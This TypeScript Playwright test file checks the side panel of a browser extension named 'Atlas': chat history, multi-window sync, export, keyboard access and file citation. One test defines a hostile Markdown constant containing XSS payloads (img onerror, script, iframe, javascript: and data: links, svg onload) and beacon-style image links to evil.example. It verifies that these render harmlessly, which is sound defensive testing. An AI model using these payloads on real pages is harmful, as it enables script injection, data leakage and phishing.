import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { askInPanel, openPanel } from "../scripts/browser/ask-in-panel";
import { callAtlasEngine } from "../scripts/browser/call-atlas";
import { dropFolder, type RunningAtlas } from "../scripts/browser/launch-atlas";
import { seedChat } from "../scripts/browser/seed-chat";
import { expect, saveScreenshot, test } from "./helpers/atlas-test";
import { indexFolder } from "./helpers/index-folder";

const WEIR = "Where does the heron nest?";
const OTTER = "What does the otter eat?";

test("an answer is finished after the panel was closed before its first text, and shown when it opens again", async ({
  launch,
  scratch,
}) => {
  const atlas = await launchWithNotes(launch, scratch);
  const leaving = await atlas.context.newPage();
  await leaving.addInitScript(closeOnceAsked);
  await leaving.goto(`chrome-extension://${atlas.extensionId}/sidepanel.html`);
  await leaving.getByRole("textbox").fill(WEIR);
  await leaving.getByRole("textbox").press("Enter");
  await leaving.waitForURL("about:blank");
  await leaving.close();

  const panel = await openPanel(atlas);
  await expect(panel.getByRole("heading", { name: WEIR })).toBeVisible();
  await expect(panel.getByRole("list", { name: "Citations" })).toContainText("The heron nests by the weir");
  await saveScreenshot(panel, "sidepanel-reopened");
});

test("two windows with the same chat both show the questions of either", async ({ launch, scratch }) => {
  const atlas = await launchWithNotes(launch, scratch);
  const first = await openPanel(atlas);
  await askInPanel(first, WEIR);
  const second = await openPanel(atlas);
  await expect(second.getByRole("heading", { name: WEIR })).toBeVisible();
  await askInPanel(first, OTTER);
  await expect(second.getByRole("heading", { name: OTTER })).toBeVisible();
  await expect(second.getByRole("list", { name: "Citations" }).last()).toContainText("otter");
  await askInPanel(second, "And the kingfisher?");
  await expect(first.getByRole("heading", { level: 2 })).toHaveText([WEIR, OTTER, "And the kingfisher?"]);
});

test("a conversation is renamed, pinned, searched, exported and deleted", async ({ launch, scratch }) => {
  const atlas = await launchWithNotes(launch, scratch);
  const panel = await openPanel(atlas);
  await askInPanel(panel, WEIR);
  await panel.getByRole("button", { name: "Ask again" }).click();
  await expect(panel.getByRole("textbox")).toBeFocused();
  await panel.getByRole("button", { name: "New chat" }).click();
  await expect(panel.getByRole("heading", { name: WEIR })).toBeHidden();
  await expect(panel.getByRole("textbox")).toBeFocused();
  await askInPanel(panel, OTTER);
  await panel.getByRole("button", { name: "History" }).click();
  const chats = panel.getByRole("list", { name: "Conversations" }).getByRole("listitem");
  await expect(chats).toContainText([OTTER, WEIR]);

  await chooseMenuEntry(panel, WEIR, "Rename…");
  await panel.getByRole("textbox", { name: "Name" }).fill("Birds of the weir");
  await panel.keyboard.press("Enter");
  await chooseMenuEntry(panel, "Birds of the weir", "Pin");
  await expect(chats).toContainText(["Birds of the weir", OTTER]);
  await saveScreenshot(panel, "sidepanel-history");

  await panel.getByRole("searchbox").fill("TROUT");
  await expect(chats).toContainText([OTTER]);
  await expect(chats).toHaveCount(1);
  await panel.getByRole("searchbox").fill("birds heron");
  await expect(chats).toContainText(["Birds of the weir"]);
  expect(await readExport(panel, "Export as Markdown")).toContain(`# Birds of the weir\n\n## ${WEIR}`);
  const [whole] = JSON.parse(await readExport(panel, "Export as JSON"));
  expect(whole.turns[0].citations[0].quote).toContain("heron");

  await chooseMenuEntry(panel, "Birds of the weir", "Delete…");
  await panel.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await expect(panel.getByText("No conversation has these words.")).toBeVisible();
  await panel.getByRole("searchbox").fill("");
  await chats.getByRole("button", { name: OTTER }).first().click();
  await expect(panel.getByRole("list", { name: "Citations" })).toContainText("trout");
  expect(await callAtlasEngine(panel, "chat-list", { words: "" })).toHaveLength(1);
});

test("every action of the panel works with the keyboard", async ({ launch, scratch }) => {
  const atlas = await launchWithNotes(launch, scratch);
  const panel = await openPanel(atlas);
  const { keyboard } = panel;
  const box = panel.getByRole("textbox");
  await keyboard.type("/fi");
  await expect(panel.getByRole("option", { name: /\/find/ })).toHaveAttribute("aria-selected", "true");
  await keyboard.press("Enter");
  await keyboard.type("otter");
  await keyboard.press("Control+Enter");
  await expect(panel.getByRole("link", { name: "Otter" })).toBeVisible();

  await keyboard.type("@no");
  await keyboard.press("ArrowUp");
  await keyboard.press("ArrowDown");
  await keyboard.press("Tab");
  await expect(panel.getByRole("button", { name: "notes", pressed: true })).toBeVisible();
  await keyboard.type(WEIR);
  await keyboard.press("Enter");
  await expect(panel.getByText("Only in notes")).toBeVisible();
  await expect(panel.getByRole("list", { name: "Citations" })).toContainText("weir");

  await keyboard.press("ArrowUp");
  await expect(box).toHaveValue(WEIR);
  await keyboard.press("Escape");
  await expect(box).toHaveValue("");
  await keyboard.press("ArrowUp");
  await keyboard.press("Control+A");
  await keyboard.type(OTTER);
  await keyboard.press("Enter");
  await expect(panel.getByRole("heading", { name: OTTER })).toBeVisible();
  await expect(panel.getByRole("heading", { name: WEIR })).toBeHidden();

  await keyboard.press("Shift+Tab");
  await expect(panel.getByRole("button", { name: "Attach" })).toBeFocused();
  await keyboard.press("Enter");
  await expect(panel.getByRole("menuitem", { name: "This page", exact: true })).toBeFocused();
  await keyboard.press("ArrowUp");
  await expect(panel.getByRole("menuitem", { name: /^A file/ })).toBeFocused();
  await keyboard.press("Escape");
  await expect(panel.getByRole("button", { name: "Attach" })).toBeFocused();

  const opened = atlas.context.waitForEvent("page");
  await tabBackTo(panel, /^1: /);
  await keyboard.press("Enter");
  expect((await opened).url()).toContain("reader.html");
  await panel.bringToFront();
  await tabBackTo(panel, "History");
  await keyboard.press("Enter");
  await expect(panel.getByRole("searchbox")).toBeFocused();
  await keyboard.press("Escape");
  await expect(panel.getByRole("heading", { name: OTTER })).toBeVisible();
});

test("an attached or dropped file is read and cited", async ({ launch, scratch }) => {
  const atlas = await launch();
  const panel = await openPanel(atlas);
  const page = "<h1>Kingfisher</h1><p>The kingfisher dives from the lowest branch.</p>";
  await panel
    .getByLabel("File to attach")
    .setInputFiles({ name: "birds.html", mimeType: "text/html", buffer: Buffer.from(page) });
  await expect(panel.getByText("This file: Kingfisher")).toBeVisible();
  await expect(panel.getByPlaceholder("Ask about this file")).toBeVisible();
  const answer = await askInPanel(panel, "Where does the kingfisher dive from?");
  expect(answer.text).toContain("lowest branch");
  const opened = atlas.context.waitForEvent("page");
  await panel.getByRole("list", { name: "Citations" }).getByRole("link").first().click();
  await expect((await opened).locator("mark").first()).toContainText("lowest branch");

  await panel.bringToFront();
  await panel.getByRole("button", { name: "Ask all sources instead" }).click();
  await expect(panel.getByRole("textbox")).toBeFocused();

  const file = join(scratch, "minutes.md");
  await writeFile(file, "The lock keeper greases the paddle gear on Tuesdays.");
  await panel.bringToFront();
  await dropFolder(panel, file);
  await expect(panel.getByText("This file: minutes.md")).toBeVisible();
  expect((await askInPanel(panel, "When is the paddle gear greased?")).text).toContain("Tuesdays");
});

test("an answer with malicious Markdown is shown as text without effects", async ({ launch }) => {
  const atlas = await launch();
  const panel = await openPanel(atlas);
  await callAtlasEngine(panel, "chat-list", { words: "" });
  await seedChat(panel, "hostile", [{ question: "What does it say?", text: HOSTILE }]);
  const asked: string[] = [];
  atlas.context.on("request", (request) => asked.push(request.url()));
  await panel.getByRole("button", { name: "History" }).click();
  await panel.getByRole("button", { name: /^What does it say/ }).click();
  await expect(panel.getByRole("cell", { name: "one" })).toBeVisible();
  await saveScreenshot(panel, "sidepanel-hostile");

  const article = panel.getByRole("article");
  await expect(article).toContainText("<img src=https://evil.example/b onerror=");
  await expect(article.locator("img, iframe, script, style, object, svg[onload]")).toHaveCount(0);
  const links = await article
    .getByRole("link")
    .evaluateAll((all) => all.map((link) => [link.getAttribute("href"), link.getAttribute("rel")]));
  expect(links).toEqual([["https://evil.example/login", "noopener noreferrer"]]);
  await expect(article).toContainText("your bank (evil.example)");
  expect(await panel.evaluate(() => "hacked" in window)).toBe(false);
  expect(asked.filter((url) => !url.startsWith("chrome-extension:"))).toEqual([]);
});

const HOSTILE = `Hello <img src=https://evil.example/b onerror="window.hacked=1"> ![chart](https://evil.example/a?q=secret)

<script>window.hacked = 1</script>

<iframe src="https://evil.example"></iframe>

[your bank](https://evil.example/login) [run](javascript:window.hacked=1) [data](data:text/html,<script>1</script>)

| one | two |
|-----|-----|
| <style>*{display:none}</style> | ![x](https://evil.example/c) |

\`\`\`html
<svg onload="window.hacked=1">
`;

async function launchWithNotes(launch: () => Promise<RunningAtlas>, scratch: string): Promise<RunningAtlas> {
  const folder = join(scratch, "notes");
  await mkdir(folder);
  await writeFile(join(folder, "heron.md"), "# Heron\n\nThe heron nests by the weir in April.");
  await writeFile(join(folder, "otter.md"), "# Otter\n\nThe otter eats trout from the mill pond.");
  const atlas = await launch();
  await indexFolder(atlas, folder);
  return atlas;
}

/** Runs in the panel: navigates away in the same task in which the question is sent. */
function closeOnceAsked(): void {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (this: MessagePort, message: { readonly name?: string }) {
    post.call(this, message);
    if (message.name === "ask") location.href = "about:blank";
  };
}

async function chooseMenuEntry(panel: Page, chat: string, entry: string): Promise<void> {
  await panel.getByRole("button", { name: `More for ${chat}` }).click();
  await panel.getByRole("menuitem", { name: entry }).click();
}

/** The downloaded file of the export of the listed conversation. */
async function readExport(panel: Page, entry: string): Promise<string> {
  const download = panel.waitForEvent("download");
  await chooseMenuEntry(panel, "Birds of the weir", entry);
  return readFile(await (await download).path(), "utf8");
}

/** Presses Shift+Tab until a button with that name has the focus. */
async function tabBackTo(panel: Page, name: string | RegExp): Promise<void> {
  const target = panel.getByRole("button", { name }).last();
  for (let presses = 0; presses < 100; presses++) {
    await panel.keyboard.press("Shift+Tab");
    if (await target.evaluate((button) => button === document.activeElement)) return;
  }
  throw new Error(`Cannot reach the button ${name} with Shift+Tab`);
}
